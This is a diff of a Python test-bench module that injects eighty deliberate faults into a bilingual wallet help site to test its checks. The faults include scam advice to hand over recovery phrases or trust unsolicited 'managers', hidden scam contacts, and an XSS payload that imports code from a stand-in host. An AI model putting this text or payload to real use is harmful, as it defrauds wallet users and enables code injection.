@@ -1,28 +1,20 @@
 """Eighty faults of careless or malicious contributors, written without a look at the rules: counted apart from what the
 rules were made with.
 
-`python -m tests.bench.blind` applies each to a copy of its own and prints whether `make check` names it, it is held until
-somebody has read it, or neither.
+`python -m tests.bench.blind --check` applies each to a copy of its own and says which no longer fit the content.
 """
 
 import argparse
-import datetime
-import importlib
-import json
-import os
 import re
 import shutil
-import subprocess
 import sys
 import tempfile
 from collections import Counter
 from collections.abc import Callable
 from dataclasses import dataclass
-from multiprocessing.pool import ThreadPool
 from pathlib import Path
 
 ROOT = Path(__file__).parents[2]
-TODAY = datetime.date(2026, 11, 25)
 FACTS = "docs/_data/facts.yml"
 SAFETY = "docs/_data/safety.yml"
 NAVIGATION = "docs/_data/navigation.yml"
@@ -97,7 +89,8 @@ def fee_coin_sent_away_first(root: Path) -> None:
 
 @fault("slips in one language")
 def address_need_not_be_compared(root: Path) -> None:
-    replace(root, "docs/zh/account/restore-wallet.md", "打开的却是另一个空钱包，所以要核对地址", "余额晚些才会显示，不必再核对地址")
+    replace(root, "docs/zh/account/restore-wallet.md",
+            "打开的却是另一个空钱包，所以要核对地址", "余额晚些才会显示，不必再核对地址")
 
 
 @fault("slips in one language")
@@ -109,7 +102,8 @@ def old_phone_erased_first(root: Path) -> None:
 
 @fault("slips in one language")
 def closed_address_still_used(root: Path) -> None:
-    replace(root, "docs/zh/account/close-account.md", "别再往旧的充值地址转币，可能拿不回来", "旧的充值地址还可以照常收币")
+    replace(root, "docs/zh/account/close-account.md",
+            "别再往旧的充值地址转币，可能拿不回来", "旧的充值地址还可以照常收币")
 
 
 @fault("slips in one language")
@@ -125,7 +119,8 @@ def copies_kept_together(root: Path) -> None:
 
 @fault("slips in one language")
 def least_valuable_first(root: Path) -> None:
-    replace(root, "docs/zh/security-scams/wallet-compromised.md", "把还在的币转到新地址，值钱的先转", "把还在的币转到新地址，零钱先转")
+    replace(root, "docs/zh/security-scams/wallet-compromised.md",
+            "把还在的币转到新地址，值钱的先转", "把还在的币转到新地址，零钱先转")
 
 
 @fault("slips in one language")
@@ -135,12 +130,14 @@ def recipient_pays_the_network(root: Path) -> None:
 
 @fault("slips in one language")
 def contract_taken_for_recipient(root: Path) -> None:
-    replace(root, "docs/zh/withdrawals/withdrawal-not-received.md", "看“代币转账”那一栏，不是合约地址", "看“代币转账”那一栏，就是合约地址")
+    replace(root, "docs/zh/withdrawals/withdrawal-not-received.md",
+            "看“代币转账”那一栏，不是合约地址", "看“代币转账”那一栏，就是合约地址")
 
 
 @fault("slips in one language")
 def warning_of_links_dropped(root: Path) -> None:
-    replace(root, "docs/en/security-scams/sim-swap.md", "Call your carrier now; tap no link in the text", "Call your carrier now")
+    replace(root, "docs/en/security-scams/sim-swap.md",
+            "Call your carrier now; tap no link in the text", "Call your carrier now")
 
 
 # A wrong link in both languages: nothing differs between them.
@@ -154,7 +151,8 @@ def theft_leads_to_airdrops(root: Path) -> None:
 @fault("wrong link in both languages")
 def not_found_leads_to_paying_more(root: Path) -> None:
     both(root, "troubleshooting/pending-transaction",
-         ("看[查不到怎么办](#not-found)", "看[查不到怎么办](#speed-up)"), ("See [not found](#not-found)", "See [not found](#speed-up)"))
+         ("看[查不到怎么办](#not-found)", "看[查不到怎么办](#speed-up)"),
+         ("See [not found](#not-found)", "See [not found](#speed-up)"))
 
 
 # Scam advice in both languages: polite, consistent, wrong.
@@ -162,16 +160,19 @@ def not_found_leads_to_paying_more(root: Path) -> None:
 @fault("scam advice in both languages")
 def supervisor_may_be_trusted(root: Path) -> None:
     both(root, "contact/no-reply-from-support",
-         ("找上门来的“主管”“加急专员”，都是骗子，报得出你的工单号也不算数。", "主管联系你、报得出你的工单号的，就是升级处理，照他说的做。"),
+         ("找上门来的“主管”“加急专员”，都是骗子，报得出你的工单号也不算数。",
+          "主管联系你、报得出你的工单号的，就是升级处理，照他说的做。"),
          ('A "manager" or "priority agent" who contacts you is a scammer, even one who knows your request number.',
-          "A manager who contacts you and knows your request number is handling the escalation: follow the instructions."))
+          "A manager who contacts you and knows your request number is handling the escalation: follow the "
+          "instructions."))
 
 
 @fault("scam advice in both languages")
 def pinned_site_revokes(root: Path) -> None:
     both(root, "security-scams/token-approval-scams",
          ("别搜“撤销授权”网站，假的很多。", "群里管理员置顶的撤销网站也行，各条链都能用。"),
-         ('Do not search for "revoke" websites; many are fake.', "The site pinned by a group's admin works too, on every chain."))
+         ('Do not search for "revoke" websites; many are fake.',
+          "The site pinned by a group's admin works too, on every chain."))
 
 
 @fault("scam advice in both languages")
@@ -227,28 +228,32 @@ def store_account_lent_by_support(root: Path) -> None:
 def name_in_a_messenger(root: Path) -> None:
     both(root, "contact/no-reply-from-support",
          ("从 App 里换一个列出的渠道", "在绿色聊天软件里搜 tp 下划线 helpdesk 下划线 test"),
-         ("From inside the app, use another channel listed there", "In the green messenger, look for tp underscore helpdesk underscore test"))
+         ("From inside the app, use another channel listed there",
+          "In the green messenger, look for tp underscore helpdesk underscore test"))
 
 
 @fault("hidden contacts")
 def number_in_words(root: Path) -> None:
     both(root, "contact/phone-support",
          ("有人习惯打电话，", "急的话可以拨零零零，零零零，零零零零。有人习惯打电话，"),
-         ("Some people like to call,", "In a hurry, dial triple zero, triple zero, double zero, double zero. Some people like to call,"))
+         ("Some people like to call,",
+          "In a hurry, dial triple zero, triple zero, double zero, double zero. Some people like to call,"))
 
 
 @fault("hidden contacts")
 def host_in_a_description(root: Path) -> None:
     both(root, "account/close-account",
          ("description: 先把币全部转走", "description: 在 close 点 wallet-care 点 test 登记。先把币全部转走"),
-         ("description: Move everything out first.", "description: Sign in at close dot wallet-care dot test. Move everything out first."))
+         ("description: Move everything out first.",
+          "description: Sign in at close dot wallet-care dot test. Move everything out first."))
 
 
 @fault("hidden contacts")
 def address_in_entities(root: Path) -> None:
     both(root, "deposits/missing-memo-or-tag",
          ("TPWallet 的客服动不了别家的地址。", "补 Memo 写信到 memo&#64;wallet-care&period;test。"),
-         ("TPWallet support cannot touch another platform's address.", "To add it later, write to memo&#64;wallet-care&period;test."))
+         ("TPWallet support cannot touch another platform's address.",
+          "To add it later, write to memo&#64;wallet-care&period;test."))
 
 
 @fault("hidden contacts")
@@ -269,13 +274,15 @@ def host_in_a_picture_s_text(root: Path) -> None:
 def host_in_punycode(root: Path) -> None:
     both(root, "contact/verify-official-channels",
          ("5. 列表里没有的，当作假的。", "5. 列表打不开的，看备用列表 xn--tpwllt-pta.test。"),
-         ("5. If it is not on the list, treat it as fake.", "5. If the list does not open, see its copy at xn--tpwllt-pta.test."))
+         ("5. If it is not on the list, treat it as fake.",
+          "5. If the list does not open, see its copy at xn--tpwllt-pta.test."))
 
 
 @fault("hidden contacts")
 def host_with_an_ideographic_stop(root: Path) -> None:
     replace(root, LANGUAGES, "footer_contact: 怎么联系客服", "footer_contact: 联系客服（care。tpwallet。test）")
-    replace(root, LANGUAGES, "footer_contact: How to contact support", "footer_contact: Contact support (care。tpwallet。test)")
+    replace(root, LANGUAGES,
+            "footer_contact: How to contact support", "footer_contact: Contact support (care。tpwallet。test)")
 
 
 @fault("hidden contacts")
@@ -299,7 +306,8 @@ def memo_for_everybody(root: Path) -> None:
 def address_to_park_coins_at(root: Path) -> None:
     both(root, "security-scams/wallet-compromised",
          ("把还在的币转到新地址，", "把还在的币转到暂存地址 0xEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMP，"),
-         ("Send what is left to the new address,", "Send what is left to the holding address 0xEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMP,"))
+         ("Send what is left to the new address,",
+          "Send what is left to the holding address 0xEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMP,"))
 
 
 # Unconfirmed claims: promises that nobody made.
@@ -308,13 +316,15 @@ def address_to_park_coins_at(root: Path) -> None:
 def balances_are_insured(root: Path) -> None:
     both(root, "reference/how-funds-are-protected",
          ("表里没有保险和赔付，不要当作有。", "另有保险，账户被盗由平台全额赔付。"),
-         ("Insurance and compensation are not listed: do not count on them.", "Besides, stolen balances are insured and paid back in full."))
+         ("Insurance and compensation are not listed: do not count on them.",
+          "Besides, stolen balances are insured and paid back in full."))
 
 
 @fault("unconfirmed claims")
 def verified_in_ten_minutes(root: Path) -> None:
     both(root, "account/verify-identity",
-         ("要多久，看提交后的页面。", "十分钟内完成，周末也一样。"), ("see that page for how long.", "it takes ten minutes, on weekends too."))
+         ("要多久，看提交后的页面。", "十分钟内完成，周末也一样。"),
+         ("see that page for how long.", "it takes ten minutes, on weekends too."))
 
 
 @fault("unconfirmed claims")
@@ -329,7 +339,8 @@ def network_fee_refunded(root: Path) -> None:
 @fault("raw HTML, links, attributes")
 def heading_with_a_style(root: Path) -> None:
     both(root, "withdrawals/withdraw-crypto",
-         ("## 步骤 {#steps}", '## 步骤 {#steps style="font-size:0"}'), ("## Steps {#steps}", '## Steps {#steps style="font-size:0"}'))
+         ("## 步骤 {#steps}", '## 步骤 {#steps style="font-size:0"}'),
+         ("## Steps {#steps}", '## Steps {#steps style="font-size:0"}'))
 
 
 @fault("raw HTML, links, attributes")
@@ -367,8 +378,10 @@ def base_of_every_link(root: Path) -> None:
 
 @fault("raw HTML, links, attributes")
 def handler_in_a_description(root: Path) -> None:
-    replace(root, "docs/zh/contact/index.md", "description: 找到真客服", "description: <img src=x onerror=import('//wallet-care.test/x')>找到真客服")
-    replace(root, "docs/en/contact/index.md", "description: Reach", "description: <img src=x onerror=import('//wallet-care.test/x')>Reach")
+    replace(root, "docs/zh/contact/index.md",
+            "description: 找到真客服", "description: <img src=x onerror=import('//wallet-care.test/x')>找到真客服")
+    replace(root, "docs/en/contact/index.md",
+            "description: Reach", "description: <img src=x onerror=import('//wallet-care.test/x')>Reach")
 
 
 @fault("raw HTML, links, attributes")
@@ -385,7 +398,8 @@ def script_in_a_template(root: Path) -> None:
 
 @fault("raw HTML, links, attributes")
 def edit_link_to_a_stranger(root: Path) -> None:
-    append(root, "mkdocs.yml", "\nrepo_url: https://wallet-care.test/help\nedit_uri: https://wallet-care.test/login?page=\n")
+    append(root, "mkdocs.yml",
+           "\nrepo_url: https://wallet-care.test/help\nedit_uri: https://wallet-care.test/login?page=\n")
 
 
 # Stray files, symbolic links, names.
@@ -411,7 +425,8 @@ def folder_that_is_a_link(root: Path) -> None:
 
 @fault("stray files, symbolic links, names")
 def page_beside_the_home_page(root: Path) -> None:
-    write(root, "docs/en/index.html", "<!doctype html><title>Help</title><p>Restore your wallet: enter your words.</p>\n")
+    write(root, "docs/en/index.html",
+          "<!doctype html><title>Help</title><p>Restore your wallet: enter your words.</p>\n")
 
 
 @fault("stray files, symbolic links, names")
@@ -477,7 +492,8 @@ def contact_called_a_product(root: Path) -> None:
 
 @fault("facts.yml")
 def audited_beyond_doubt(root: Path) -> None:
-    confirm(root, "security audits", "{zh: 已通过权威审计，资金绝对安全, en: audited and certified; funds cannot be stolen}")
+    confirm(root, "security audits",
+            "{zh: 已通过权威审计，资金绝对安全, en: audited and certified; funds cannot be stolen}")
 
 
 @fault("facts.yml")
@@ -493,17 +509,19 @@ def buttons_exchanged(root: Path) -> None:
 
 @fault("facts.yml")
 def anybody_may_be_paid(root: Path) -> None:
-    replace(root, FACTS, "instead: {zh: 由哪家公司处理尚未确认，以付款页上的名称为准, en: which company processes it is not yet confirmed; "
-            "go by the name on the payment page}",
-            "instead: {zh: 收款人可能是个人，以聊天里给的账号为准, en: it may be a private person; go by the account you are given in the chat}")
+    replace(root, FACTS,
+            "instead: {zh: 由哪家公司处理尚未确认，以付款页上的名称为准, en: which company processes it is not yet "
+            "confirmed; go by the name on the payment page}",
+            "instead: {zh: 收款人可能是个人，以聊天里给的账号为准, en: it may be a private person; go by the account "
+            "you are given in the chat}")
 
 
 @fault("facts.yml")
 def way_to_support_asks_for_the_phrase(root: Path) -> None:
     replace(root, FACTS, """\
-      name: {zh: App 内客服入口, en: way to support in the app}
-      state: unconfirmed
-      value: {zh: 我的 > …, en: Me > …}""".replace("      ", "    "), """\
+    name: {zh: App 内客服入口, en: way to support in the app}
+    state: unconfirmed
+    value: {zh: 我的 > …, en: Me > …}""", """\
     name: {zh: App 内客服入口, en: way to support in the app}
     state: unconfirmed
     value: {zh: 我的 > 验证助记词 > 客服, en: Me > Verify recovery phrase > Support}""")
@@ -514,13 +532,17 @@ def way_to_support_asks_for_the_phrase(root: Path) -> None:
 @fault("other data files")
 def screen_may_be_shared_with_support(root: Path) -> None:
     replace(root, SAFETY, "也不要共享屏幕。", "也不要共享屏幕，工单里约好的除外。")
-    replace(root, SAFETY, "or watch your shared screen.", "or watch your shared screen, unless agreed in a support request.")
+    replace(root, SAFETY,
+            "or watch your shared screen.", "or watch your shared screen, unless agreed in a support request.")
 
 
 @fault("other data files")
 def recovery_with_a_license(root: Path) -> None:
-    replace(root, SAFETY, "声称能“追回被盗资产”的收费服务，几乎都是二次诈骗。", "找“追回被盗资产”的收费服务，先看对方的执照。")
-    replace(root, SAFETY, 'Paid "fund recovery" services are almost always a second scam.', 'Of a paid "fund recovery" service, see the license first.')
+    replace(root, SAFETY,
+            "声称能“追回被盗资产”的收费服务，几乎都是二次诈骗。", "找“追回被盗资产”的收费服务，先看对方的执照。")
+    replace(root, SAFETY,
+            'Paid "fund recovery" services are almost always a second scam.',
+            'Of a paid "fund recovery" service, see the license first.')
 
 
 @fault("other data files")
@@ -551,7 +573,9 @@ def hash_leads_to_the_phrase(root: Path) -> None:
 @fault("other data files")
 def typed_phrase_is_welcome(root: Path) -> None:
     replace(root, LANGUAGES, "不要把它填进任何网页，也不要给任何人。", "换个浏览器再填一次，就能查到余额。")
-    replace(root, LANGUAGES, "Do not enter it on any website or give it to anyone.", "Enter it again in another browser to see the balance.")
+    replace(root, LANGUAGES,
+            "Do not enter it on any website or give it to anyone.",
+            "Enter it again in another browser to see the balance.")
 
 
 @fault("other data files")
@@ -571,7 +595,8 @@ def partner_may_be_linked(root: Path) -> None:
 
 @fault("other data files")
 def coverage_follows_the_fault(root: Path) -> None:
-    zh, en = ("词一个也不给。", "词只给接待的客服。"), ("Give them none of the words.", "Give the words to your agent only.")
+    zh = "词一个也不给。", "词只给接待的客服。"
+    en = ("Give them none of the words.", "Give the words to your agent only.")
     both(root, "account/back-up-recovery-phrase", zh, en)
     replace(root, "docs/_data/coverage.yml", *zh)
     replace(root, "docs/_data/coverage.yml", *en)
@@ -610,22 +635,28 @@ def announce(root: Path, name: str, **languages: tuple[str, str, str, str, str, 
     """Write an announcement: title, description, level, starts, ends, text in each language."""
     for language, values in languages.items():
         keys = "title", "description", "level", "starts", "ends", "text"
-        write(root, f"docs/{language}/announcements/{name}.md", ANNOUNCEMENT.format(**dict(zip(keys, values, strict=True))))
+        text = ANNOUNCEMENT.format(**dict(zip(keys, values, strict=True)))
+        write(root, f"docs/{language}/announcements/{name}.md", text)
 
 
 @fault("announcements")
 def migration_wants_the_phrase(root: Path) -> None:
     when = "urgent", "2026-11-25 10:00+08:00", "2026-12-05 10:00+08:00"
     announce(root, "wallet-migration",
-             zh=("钱包升级：请重新导入", "所有用户请在升级页重新导入钱包，过期的余额不再显示。", *when, "打开升级页，照提示输入 12 或 24 个词。"),
-             en=("Wallet upgrade: import again", "Everybody imports the wallet again on the upgrade page; later, balances no longer show.",
+             zh=("钱包升级：请重新导入",
+                 "所有用户请在升级页重新导入钱包，过期的余额不再显示。",
+                 *when, "打开升级页，照提示输入 12 或 24 个词。"),
+             en=("Wallet upgrade: import again",
+                 "Everybody imports the wallet again on the upgrade page; later, balances no longer show.",
                  *when, "Open the upgrade page and enter your 12 or 24 words as it asks."))
 
 
 @fault("announcements")
 def over_sooner_in_one_language(root: Path) -> None:
     announce(root, "slow-deposits",
-             zh=("充值变慢", "充值的用户请等待，不要再转一次。", "urgent", "2026-11-25 10:00+08:00", "2026-11-30 10:00+08:00", "正在排查。"),
+             zh=("充值变慢",
+                 "充值的用户请等待，不要再转一次。",
+                 "urgent", "2026-11-25 10:00+08:00", "2026-11-30 10:00+08:00", "正在排查。"),
              en=("Deposits are slow", "If you deposited, wait; do not send again.", "notice",
                  "2026-11-25 10:00+08:00", "2026-11-25 11:00+08:00", "We are looking into it."))
 
@@ -635,7 +666,9 @@ def over_before_it_starts(root: Path) -> None:
     when = "urgent", "2026-11-25 10:00-08:00", "2026-11-25 16:00+08:00"
     announce(root, "fake-app-warning",
              zh=("出现假 App", "从商店新装 App 的用户，先不要输入助记词。", *when, "正在核实，不要转币。"),
-             en=("A fake app is about", "If you have just installed the app, enter no words yet.", *when, "We are looking into it; send no coins."))
+             en=("A fake app is about",
+                 "If you have just installed the app, enter no words yet.", *when, "We are looking into it; send no "
+                 "coins."))
 
 
 # Encoding.
@@ -644,7 +677,8 @@ def over_before_it_starts(root: Path) -> None:
 def text_that_runs_backwards(root: Path) -> None:
     both(root, "contact/verify-official-channels",
          ("5. 列表里没有的，当作假的。", "5. 列表里没有的，看 \u202etset.erac-tellaw\u202c。"),
-         ("5. If it is not on the list, treat it as fake.", "5. If it is not on the list, see \u202etset.erac-tellaw\u202c."))
+         ("5. If it is not on the list, treat it as fake.",
+          "5. If it is not on the list, see \u202etset.erac-tellaw\u202c."))
 
 
 @fault("encoding")
@@ -659,75 +693,48 @@ def lines_that_end_in_cr(root: Path) -> None:
     article.write_bytes(article.read_bytes().replace(b"\n", b"\r"))
 
 
-PARTS = ("docs", "overrides", "scripts", "mkdocs.yml", "Makefile", "README.md", ".github")  # of the project, copied
+def contents(root: Path) -> dict[str, bytes | str]:
+    """What stands in a folder: the bytes of each file, the target of each symbolic link."""
+    return {str(path.relative_to(root)): str(path.readlink()) if path.is_symlink() else path.read_bytes()
+            for path in root.rglob("*") if path.is_symlink() or path.is_file()}
 
 
-def copy(folder: Path, source: Path = ROOT) -> Path:
-    """Copy into a new folder what faults are in and what finds them. Returns the folder."""
-    for name in PARTS:
-        made = shutil.copytree if (source / name).is_dir() else shutil.copy
-        made(source / name, folder / name, **({"symlinks": True} if made is shutil.copytree else {}))
-    return folder
+def copy(root: Path) -> None:
+    """Copy into a new folder what faults are in: docs/, overrides/ and mkdocs.yml."""
+    for name in "docs", "overrides":
+        shutil.copytree(ROOT / name, root / name, symlinks=True)
+    shutil.copy(ROOT / "mkdocs.yml", root)
 
 
-def run(root: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
-    command = [sys.executable, "-m", "scripts", *arguments]
-    return subprocess.run(command, cwd=root, capture_output=True, text=True, check=False, timeout=600)
-
-
-def outcome(root: Path, known: set[str], *arguments: str) -> tuple[str, str]:
-    """What `make check` makes of a copy: "named", "held", "neither" or "crashed"; and by what."""
-    answer = run(root, "check", "--today", str(TODAY), "--format", "json", *arguments)
-    if "Traceback" in answer.stderr:
-        return "crashed", answer.stderr.strip().rpartition("\n")[2]
-    try:
-        report = json.loads(answer.stdout)
-    except ValueError:  # a line on what keeps the content from being read at all, or the site from being built
-        return "named", answer.stderr.strip().partition("\n")[0]
-    new = [f"{row['rule']} {row['path']}:{row['line']} {row['found']}" for row in report["findings"]]
-    if new := [line for line in new if re.sub(r":\d+ ", " ", line) not in known]:
-        return "named", new[0]
-    return ("held", str(report["held"][0])) if report["held"] else ("neither", "")
-
-
-def judged(one: Fault, accepted: Path) -> tuple[str, str]:
-    """What becomes of a fault in a copy of the project all of which somebody has read; the site is built only where
-    the sources show nothing."""
-    with tempfile.TemporaryDirectory() as folder:
-        root = copy(Path(folder), accepted)
-        try:
-            one.apply(root)
-        except (AssertionError, OSError) as error:
-            return "no longer fits", str(error)
-        known = set(KNOWN)
-        found = outcome(root, known, "--source")
-        return found if found[0] != "neither" else outcome(root, known)
-
-
-KNOWN: list[str] = []  # what there is to mend without any fault
+def check() -> list[str]:
+    """A line for each fault that does not apply to the content of today, or changes nothing."""
+    lines = []
+    for one in FAULTS:
+        with tempfile.TemporaryDirectory() as folder:
+            root = Path(folder)
+            copy(root)
+            before = contents(root)
+            try:
+                one.apply(root)
+            except (AssertionError, OSError) as error:
+                lines.append(f"{one.name}: {error}")
+            else:
+                if contents(root) == before:
+                    lines.append(f"{one.name}: changes nothing")
+    return lines
 
 
 def main() -> int:
-    """Say of each fault what finds it, and count them by family."""
+    """Count the faults by family; with --check, apply each and list those that no longer fit."""
     parser = argparse.ArgumentParser(prog="python -m tests.bench.blind", description=main.__doc__)
-    parser.add_argument("family", nargs="?", default="", help="only families or faults with this in their name")
-    parser.add_argument("--set", default="blind", help="the module of faults, in tests/bench")
+    parser.add_argument("--check", action="store_true", help="apply each to a copy of its own")
     arguments = parser.parse_args()
-    chosen: list[Fault] = importlib.import_module(f"tests.bench.{arguments.set}").FAULTS
-    chosen = [one for one in chosen if arguments.family in f"{one.family} {one.name}"]
-    with tempfile.TemporaryDirectory() as folder:
-        root = copy(Path(folder))
-        run(root, "accept", "all", "--by", "editor", "--today", str(TODAY))
-        report = json.loads(run(root, "check", "--today", str(TODAY), "--format", "json").stdout)
-        KNOWN.extend(f"{row['rule']} {row['path']} {row['found']}" for row in report["findings"])
-        counts: dict[str, Counter[str]] = {}
-        with ThreadPool(os.cpu_count()) as pool:  # each waits for a process of its own
-            for one, (what, by) in zip(chosen, pool.imap(lambda one: judged(one, root), chosen), strict=True):
-                counts.setdefault(one.family, Counter())[what] += 1
-                print(f"{what:14} {one.family}: {one.name}: {by[:160]}", flush=True)
-    for family, counted in [*counts.items(), ("in all", sum(counts.values(), Counter()))]:
-        print(f"{family:36}", ", ".join(f"{number} {what}" for what, number in sorted(counted.items())))
-    return 0
+    for family, number in Counter(one.family for one in FAULTS).items():
+        print(f"{number:3} {family}")
+    print(f"{len(FAULTS):3} in all")
+    lines = check() if arguments.check else []
+    print(*lines, sep="\n", end="\n" if lines else "")
+    return 1 if lines else 0
 
 
 if __name__ == "__main__":
